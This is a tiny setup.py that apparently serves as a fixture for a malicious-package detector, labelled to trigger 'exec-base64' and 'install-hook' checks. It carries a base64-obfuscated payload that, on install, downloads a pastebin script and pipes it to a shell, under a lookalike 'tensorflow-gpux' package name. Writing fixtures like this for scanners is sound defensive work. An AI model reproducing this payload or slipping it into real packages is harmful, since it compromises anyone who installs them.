# ruff: noqa
# fmt: off
"""The oldest trick: a base64 payload executed at the top of setup.py."""
import base64

from setuptools import setup

exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3Bhc3RlYmluLmNvbS9yYXcvWDFZMiB8IHNoIik="))  # expect: exec-base64, install-hook
setup(name="tensorflow-gpux", version="2.15.0")
